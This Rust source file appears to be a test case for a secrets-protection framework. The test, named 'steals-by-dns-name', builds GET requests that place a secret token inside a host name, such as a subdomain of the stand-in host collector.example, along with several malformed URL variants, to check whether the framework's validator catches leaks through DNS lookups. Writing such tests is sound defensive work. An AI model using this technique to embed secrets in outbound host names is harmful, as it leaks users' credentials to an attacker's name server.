//! `validate` wants the secrets to be part of a host name, which the attacker's name server would see.
#![cfg_attr(target_family = "wasm", no_std)]

use keywheel_guests::*;
use keywheel_sdk::prelude::*;

fn tries(cx: &Cx) -> Result<Verdict> {
    let mut told = Told::default();
    for (before, after) in [
        ("http://", ".collector.example/"),
        ("https://x.", ".collector.example/"),
        ("http://127.0.0.1.", ".example/"),
        ("http://127.0.0.1:", "/"),
        ("", "://127.0.0.1/"),
        ("http:", "/"),
        ("http:/", "/"),
        ("//", "/"),
    ] {
        let mut request = raw::request("GET", "");
        request.url =
            vec![raw::Part::Text(before.into()), raw::secret("token"), raw::Part::Text(after.into())];
        told.send(before, &request);
    }
    told.finish(cx)
}

keywheel_guests::guest!("steals-by-dns-name", validate: tries);
